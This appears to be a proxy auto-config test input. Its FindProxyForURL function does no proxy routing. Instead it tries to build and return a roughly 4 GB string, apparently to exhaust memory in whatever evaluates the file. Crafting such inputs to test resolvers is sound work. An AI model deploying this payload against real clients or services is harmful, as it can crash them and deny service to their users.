function FindProxyForURL(url, host) {
  var parts = new Array(1000).fill("x".repeat(4000000));
  return parts.join("");
}
